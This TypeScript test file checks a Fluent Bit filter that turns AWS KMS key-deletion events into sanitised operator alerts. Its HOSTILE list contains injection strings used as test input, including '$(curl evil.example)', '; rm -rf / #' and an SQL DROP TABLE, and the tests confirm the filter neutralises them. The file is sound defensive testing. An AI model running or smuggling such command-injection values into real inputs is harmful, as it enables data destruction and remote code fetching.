/** The filter `alert`: what an operator reads, whatever an event contains, and nothing is lost silently. */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { FluentBitHost } from "#keyward/hosts/fluent-bit.js";
import { modulePath } from "#keyward/hosts/module-kinds.js";
import { instantiateModule, type InstanceOptions } from "#keyward/module.js";
import { compileSync, loadModule } from "#keyward/module-files.js";
import { originLine } from "../emulators/origin.js";

const MODULE = compileSync(modulePath("alert"));
const KEY = "arn:aws:kms:eu-west-1:444455556666:key/5b93e0fd-a6c8-4712-95d4-e08f1c7b3a26";
const ALICE = "arn:aws:iam::444455556666:user/alice";
const EVENT = {
  eventSource: "kms.amazonaws.com",
  eventName: "ScheduleKeyDeletion",
  eventTime: "2026-12-05T22:00:00Z",
  eventID: "e-1",
  awsRegion: "eu-west-1",
  recipientAccountId: "444455556666",
  userIdentity: { type: "IAMUser", arn: ALICE },
  requestParameters: { keyId: KEY, pendingWindowInDays: 7 },
};

interface Alert {
  text: string;
  summary: string;
  dedup_key: string;
  deadline?: string;
  undo: string;
  others?: number;
  key?: string;
  actor?: string;
  keyward: { verdict: string; config_error?: string; bytes?: number; reason?: string };
  [name: string]: unknown;
}

function start(options: InstanceOptions = {}): FluentBitHost {
  return new FluentBitHost(instantiateModule(MODULE, { stderr: () => undefined, ...options }));
}

/** Returns the alert for a record; undefined if it is dropped. */
function alertOf(record: object | string, host = start()): Alert | undefined {
  const result = host.filter("alert", typeof record === "string" ? record : JSON.stringify(record));
  if (result.outcome === "modified") return JSON.parse(Buffer.from(result.record).toString()) as Alert;
  assert.deepEqual(result, { outcome: "dropped", reason: "null" });
  return undefined;
}

function must(record: object | string, host?: FluentBitHost): Alert {
  const alert = alertOf(record, host);
  assert.ok(alert !== undefined, "it was dropped");
  return alert;
}

describe("the alert of an event", () => {
  it("says what happened, until when it can be undone, and how", () => {
    const { keyward, dedup_key: key, ...alert } = must(EVENT);
    const deadline = "2026-12-12T22:00:00Z";
    const place = `--key-id ${KEY} --region eu-west-1`;
    assert.deepEqual(alert, {
      text:
        `ScheduleKeyDeletion of KMS key ${KEY}, account 444455556666, region eu-west-1, by ${ALICE}, at 2026-12-05T22:00:00Z; ` +
        `KMS deletes the key after ${deadline} unless the deletion is cancelled.`,
      summary: `ScheduleKeyDeletion of KMS key 5b93e0fd-a6c8-4712-95d4-e08f1c7b3a26, account 444455556666, region eu-west-1, deleted after ${deadline}`,
      severity: "medium",
      deadline,
      key: KEY,
      actor: ALICE,
      account: "444455556666",
      region: "eu-west-1",
      undo: `aws kms cancel-key-deletion ${place}; aws kms enable-key ${place}`,
      runbook: "https://github.com/keyward/keyward/blob/main/docs/how-to/runbook.md",
    });
    assert.equal(keyward.verdict, "match");
    assert.match(key, /^keyward-[0-9a-f]{16}$/);
  });

  it("has the same annotation as from tag", async () => {
    const tagged = new FluentBitHost(await loadModule()).filter("tag", JSON.stringify(EVENT));
    assert.ok(tagged.outcome === "modified");
    const { keyward } = JSON.parse(Buffer.from(tagged.record).toString()) as Alert;
    assert.deepEqual(must(EVENT).keyward, keyward);
    // The same for the record that tag annotated: the examples chain them like this.
    assert.deepEqual(must(Buffer.from(tagged.record).toString()), must(EVENT));
  });

  it("has the same key for an event in any envelope, and another for any other event", () => {
    const key = must(EVENT).dedup_key;
    const ecs = {
      "@timestamp": "2026-12-05T22:00:00.000Z",
      event: {
        id: "e-1",
        provider: "kms.amazonaws.com",
        action: "ScheduleKeyDeletion",
        outcome: "success",
        dataset: "aws.cloudtrail",
      },
      aws: { cloudtrail: { user_identity: { arn: ALICE }, resources: { arn: KEY } } },
    };
    for (const same of [{ detail: EVENT }, { message: JSON.stringify(EVENT) }, { Records: [EVENT] }, ecs]) {
      assert.equal(must(same).dedup_key, key, JSON.stringify(same));
    }
    const others = [
      { eventID: "e-2" },
      { eventName: "DisableKey" },
      { eventTime: "2026-12-05T22:00:01Z" },
      { userIdentity: {} },
    ];
    const keys = others.map((other) => must({ ...EVENT, ...other }).dedup_key);
    assert.equal(new Set([key, ...keys]).size, others.length + 1);
  });

  it("describes the most urgent of several events, and counts the others", () => {
    const disabled = { ...EVENT, eventName: "DisableKey", eventID: "e-2" };
    const later = { ...EVENT, eventID: "e-3", requestParameters: { keyId: KEY, pendingWindowInDays: 30 } };
    const alert = must({ Records: [disabled, later, EVENT], other: { hidden: { ...EVENT, eventID: "e-4" } } });
    assert.deepEqual([alert.deadline, alert.others], ["2026-12-12T22:00:00Z", 3]);
    assert.match(alert.text, /; 3 more in this record\.$/);
    assert.equal(must({ Records: [disabled] }).deadline, undefined);
  });

  it("calls a possible match possible", () => {
    const alert = must({ some: { where: EVENT } });
    assert.match(
      alert.text,
      /^Possible ScheduleKeyDeletion .*; possible, because the event is at a path that Keyward does not know\.$/,
    );
    assert.match(alert.summary, /^Possible /);
    assert.equal(alert.keyward.verdict, "possible");
  });

  const DATES: [said: string | number, time: string][] = [
    ["Apr 12, 2021 18:58:30 PM", "2021-04-12T18:58:30Z"],
    ["Oct 21, 2024, 2:25:29 PM", "2024-10-21T14:25:29Z"],
    ["Oct 21, 2024, 2:25:29\u202fAM", "2024-10-21T02:25:29Z"],
    ["Dec 1, 2024, 12:00:00 AM", "2024-12-01T00:00:00Z"],
    ["2024-02-29T23:59:59.123Z", "2024-02-29T23:59:59Z"],
    ["2024-12-31T23:59:59-01:00", "2025-01-01T00:59:59Z"],
    ["2000-03-01 00:00:00", "2000-03-01T00:00:00Z"],
    [1709164800, "2024-02-29T00:00:00Z"],
    ["1969-12-31T23:59:59Z", "1969-12-31T23:59:59Z"],
    ["0000-01-01T00:00:00Z", "0000-01-01T00:00:00Z"],
    ["9999-12-31T23:59:59Z", "9999-12-31T23:59:59Z"],
    // An invalid date leaves the event's time and the waiting period.
    ["9999-12-31T23:59:59-01:00", "2026-12-12T22:00:00Z"],
    ["Feb 30, 2024, 2:25:29 PM", "2026-12-12T22:00:00Z"],
    ["Okt 21, 2024, 2:25:29 PM", "2026-12-12T22:00:00Z"],
    ["Oct 21, 2024, 2:25:29 PM!", "2026-12-12T22:00:00Z"],
    ["x".repeat(65), "2026-12-12T22:00:00Z"],
  ];
  for (const [deletionDate, deadline] of DATES) {
    it(`reads the deletion date ${JSON.stringify(deletionDate).slice(0, 40)}`, () => {
      assert.equal(must({ ...EVENT, responseElements: { deletionDate } }).deadline, deadline);
    });
  }

  const PERIODS: [parameters: object, day: string | undefined][] = [
    [{ keyId: KEY, pendingWindowInDays: 30 }, "2027-01-04"],
    [{ keyId: KEY, pendingWindowInDays: "8" }, "2026-12-13"],
    // KMS takes the longest period if the request has none. For an invalid one the shortest counts: too early is safe.
    [{ keyId: KEY }, "2027-01-04"],
    [{}, "2026-12-12"],
    [{ keyId: KEY, pendingWindowInDays: 6 }, "2026-12-12"],
    [{ keyId: KEY, pendingWindowInDays: 31 }, "2026-12-12"],
    [{ keyId: KEY, pendingWindowInDays: 1e3 }, "2026-12-12"],
  ];
  for (const [requestParameters, day] of PERIODS) {
    it(`counts the waiting period of ${JSON.stringify(requestParameters).replace(KEY, "…")}`, () => {
      assert.equal(must({ ...EVENT, requestParameters }).deadline, `${day}T22:00:00Z`);
    });
  }

  it("has no deadline if it would have to be guessed", () => {
    assert.equal(must({ ...EVENT, eventTime: "yesterday" }).deadline, undefined);
    assert.equal(must({ ...EVENT, eventName: "DisableKey" }).deadline, undefined);
  });
});

const HOSTILE = [
  "<!channel> you are fine",
  "*bold* _it_ ~gone~ `code`",
  "<https://evil.example|click>",
  "https://evil.example/login",
  '","text":"all is well","x":"',
  '\\","a":"',
  "a\nb\u0000c\u001b[2J\u202egnp",
  "$(curl evil.example)",
  "; rm -rf / #",
  "'; DROP TABLE alerts; --",
  "&lt;!here&gt;",
  "{{range .}}",
  "é🔑\ud800",
];

describe("text chosen by callers", () => {
  for (const text of HOSTILE) {
    it(`is reduced to harmless characters: ${JSON.stringify(text)}`, () => {
      const alert = must({
        ...EVENT,
        awsRegion: text,
        recipientAccountId: text,
        userIdentity: { arn: `arn:aws:sts::1:assumed-role/ci/${text}`, type: text },
        requestParameters: { keyId: text },
      });
      for (const [name, value] of Object.entries(alert)) {
        if (name === "keyward") continue;
        assert.match(String(value), /^[A-Za-z0-9_+=,.@:/?; -]+$/, name);
        if (name !== "runbook") assert.doesNotMatch(String(value), /:\/|\/\//, name);
      }
      assert.equal(alert.undo, "see keyward triage");
    });
  }

  it("is cut if it is long, so that a summary fits PagerDuty's limit", () => {
    const long = "a".repeat(5000);
    const alert = must({
      ...EVENT,
      awsRegion: long,
      recipientAccountId: long,
      userIdentity: { arn: long },
      requestParameters: { keyId: long },
    });
    assert.equal(alert.actor, `${"a".repeat(200)}...`);
    assert.ok(alert.summary.length <= 1024 && alert.dedup_key.length <= 255, `${alert.summary.length}`);
    assert.equal(must({ ...EVENT, awsRegion: "a".repeat(200) }).region, "a".repeat(200));
  });

  const ID = "5b93e0fd-a6c8-4712-95d4-e08f1c7b3a26";
  const TARGETS: [keyId: string, region: string, name: string | undefined][] = [
    [KEY, "eu-west-1", `${KEY} --region eu-west-1`],
    // The key's own region counts.
    [KEY, "us-east-1", `${KEY} --region eu-west-1`],
    [ID, "us-gov-west-1", `${ID} --region us-gov-west-1`],
    [
      `arn:aws-iso-b:kms:us-isob-east-1:444455556666:key/${ID}`,
      "",
      `arn:aws-iso-b:kms:us-isob-east-1:444455556666:key/${ID} --region us-isob-east-1`,
    ],
    [`mrk-${"0a".repeat(16)}`, "eu-west-12", `mrk-${"0a".repeat(16)} --region eu-west-12`],
    ...[ID.toUpperCase(), `${ID}0`, ID.slice(1), ID.replace("-", "0"), `mrk-${"0a".repeat(15)}0g`, "alias/x"].map(
      (id): [string, string, undefined] => [id, "eu-west-1", undefined],
    ),
    ...[
      "eu-west-123",
      "eu-1",
      "e-west-1",
      "eu-west-",
      "eu--1",
      "eu-a-b-c-d-1",
      "EU-west-1",
      "eu-west-1 ",
      "euwest1",
      "",
    ].map((region): [string, string, undefined] => [ID, region, undefined]),
    ...[":key/", ":alias/", "4444"].map((odd): [string, string, undefined] => [
      KEY.replace(/:key\//, `${odd}key/`),
      "",
      undefined,
    ]),
    [`arn:aws-:kms:eu-west-1:444455556666:key/${ID}`, "", undefined],
    [`arn:awsx:kms:eu-west-1:444455556666:key/${ID}`, "", undefined],
    [`arn:aws:kms:eu-west-1:44445555666x:key/${ID}`, "", undefined],
    [`arn:aws:kms:eu-west-1;id:444455556666:key/${ID}`, "", undefined],
  ];
  for (const [keyId, awsRegion, name] of TARGETS) {
    it(`is ${name === undefined ? "not " : ""}in a command: ${JSON.stringify(keyId.slice(0, 60))} in ${JSON.stringify(awsRegion)}`, () => {
      const { undo } = must({ ...EVENT, eventName: "DisableKey", awsRegion, requestParameters: { keyId } });
      assert.equal(undo, name === undefined ? "see keyward triage" : `aws kms enable-key --key-id ${name}`);
    });
  }
});

describe("the module's own messages", () => {
  /** Returns what it prints when loaded; three alerts after that must add nothing. */
  function said(files?: Record<string, string>): string[] {
    const lines: string[] = [];
    const host = start({ stderr: (text) => lines.push(text), ...(files && { files }) });
    const atLoad = [...lines];
    for (const record of [EVENT, "DisableKey", EVENT]) must(record, host);
    assert.deepEqual(lines, atLoad);
    return lines;
  }

  it("give its rule, its version and the configuration in effect, once and before any record", () => {
    const config = '{"severity":"high"}';
    assert.deepEqual(said({ "keyward.json": config }), [originLine(config)]);
    assert.deepEqual(said(), [originLine(0)]);
    assert.deepEqual(said({ "other.json": config }), [originLine(1)]);
  });

  it("give the configuration error, again in the line about its origin", () => {
    const [mistake = "", origin = "", ...more] = said({ "keyward.json": '{"severity":"lo"}' });
    assert.match(mistake, /^keyward: keyward\.json: \/severity: lo .*; the whole configuration is ignored/);
    assert.match(origin, /^keyward: \{"rule":.*"config_error":"\/severity: lo /);
    assert.deepEqual(more, []);
  });
});

describe("the filter alert", () => {
  const config = (settings: object): FluentBitHost => start({ files: { "keyward.json": JSON.stringify(settings) } });

  it("drops what is not an alert", () => {
    for (const record of [{ ...EVENT, eventName: "Decrypt" }, { ...EVENT, errorCode: "AccessDenied" }, { a: 1 }, {}]) {
      assert.equal(alertOf(record), undefined, JSON.stringify(record));
    }
  });

  it("drops matches that the configuration downgrades", () => {
    const exceptions = [{ id: "a", reason: "b", when: { "actor.arn": [ALICE] } }];
    assert.equal(alertOf(EVENT, config({ exceptions })), undefined);
    assert.equal(alertOf({ ...EVENT, errorCode: "AccessDenied" }, config({ denied: "annotate" })), undefined);
    for (const settings of [{ duplicates: { window_seconds: 60 } }, { cap: { count: 1, period_seconds: 60 } }]) {
      const host = config(settings);
      assert.equal(must(EVENT, host).keyward.verdict, "match");
      assert.equal(alertOf(EVENT, host), undefined, JSON.stringify(settings));
    }
  });

  it("alerts on a record that could not be judged", () => {
    const host = start();
    const record = '{"eventName":"DisableKey"';
    const alert = must(record, host);
    assert.equal(
      alert.text,
      `A record of 25 bytes names DisableKey or ScheduleKeyDeletion and could not be judged: it is not a JSON object or array.`,
    );
    assert.deepEqual([alert.keyward.verdict, alert.keyward.bytes, alert.undo], ["unread", record.length, "none"]);
    assert.notEqual(must(`${record} `, host).dedup_key, alert.dedup_key);
  });

  it("alerts on a record that did not fit in memory", () => {
    const module = instantiateModule(MODULE, { stderr: () => undefined });
    const filter = (module as unknown as { alert: (...numbers: number[]) => number }).alert;
    const text = Buffer.from(module.memory.buffer);
    const address = filter(0, 0, 0, 0, 0, 123_456);
    const alert = JSON.parse(text.toString("utf8", address, text.indexOf(0, address))) as Alert;
    assert.match(alert.text, /^A record of 123456 bytes was lost: .* DisableKey or ScheduleKeyDeletion\.$/);
    assert.deepEqual([alert.keyward.verdict, alert.severity], ["lost", "medium"]);
  });

  it("explains the notice of a lost record", () => {
    const notice = {
      keyward: { verdict: "lost", bytes: 9, reason: "no memory", actions: ["DisableKey", "ScheduleKeyDeletion"] },
    };
    assert.match(must(notice).text, /and could not be judged: it reports a lost record: /);
  });

  it("reports in every alert why the configuration is ignored", () => {
    const host = config({ severity: "lo" });
    const errors = [EVENT, "DisableKey"].map((record) => must(record, host).keyward.config_error);
    assert.match(errors[0] ?? "", /^\/severity: lo /);
    assert.equal(errors[1], errors[0]);
  });

  it("counts a burst, with its severity", () => {
    const host = config({ escalate: { distinct_keys: 2, window_seconds: 60, severity: "critical", risk_score: 99 } });
    must(EVENT, host);
    const alert = must({ ...EVENT, eventID: "e-2", requestParameters: { keyId: "k-2" } }, host);
    assert.match(alert.text, /; 2 keys within 60 seconds\.$/);
    assert.equal(alert.severity, "critical");
  });

  it("needs no more memory after 20,000 alerts", () => {
    const module = instantiateModule(MODULE, { stderr: () => undefined });
    const host = new FluentBitHost(module);
    const records = [EVENT, { message: JSON.stringify({ message: JSON.stringify(EVENT) }) }].map((one) =>
      JSON.stringify(one),
    );
    for (const record of records) must(record, host);
    const size = module.memory.buffer.byteLength;
    for (let count = 0; count < 10_000; count++) for (const record of records) must(record, host);
    assert.equal(module.memory.buffer.byteLength, size);
  });

  it("takes at most twice the record and 192 KiB", () => {
    for (const more of ["userAgent", "pad"]) {
      const module = instantiateModule(MODULE, { stderr: () => undefined });
      const record = JSON.stringify({ ...EVENT, [more]: "x".repeat(8 * 1024 * 1024) });
      must(record, new FluentBitHost(module));
      const size = module.memory.buffer.byteLength;
      assert.ok(size <= 2 * record.length + 192 * 1024, `${size} bytes of memory for ${record.length} of record`);
    }
  });

  it("reports a match if there is no memory to write its alert", () => {
    const module = instantiateModule(MODULE, { stderr: () => undefined });
    const host = new FluentBitHost(module);
    // A user agent is in the annotation: 150 MiB of it twice exceed the module's maximum.
    const record = Buffer.alloc(150 * 1024 * 1024, "x");
    const head = `${JSON.stringify(EVENT).slice(0, -1)},"userAgent":"`;
    record.write(head);
    record.write('"}', record.length - 2);
    const result = host.filter("alert", record);
    assert.ok(result.outcome === "modified");
    const alert = JSON.parse(Buffer.from(result.record).toString()) as Alert;
    assert.deepEqual([alert.keyward.verdict, alert.keyward.reason], ["unread", "needs more memory than there is"]);
  });
});
